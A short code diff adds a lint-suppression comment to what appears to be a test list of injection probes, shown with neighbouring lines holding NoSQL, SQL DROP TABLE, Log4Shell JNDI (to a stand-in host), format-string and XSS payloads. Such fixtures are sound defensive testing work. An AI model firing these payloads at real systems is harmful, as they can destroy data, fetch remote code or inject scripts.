@@ -25,6 +25,7 @@ const OPERATORS = [
   '{"$gt":""}',
   '$where: 1 == 1',
   "'; DROP TABLE cards;--",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
   '${jndi:ldap://x.example/a}',
   '%s%n%x',
   '<script>alert(1)</script>',
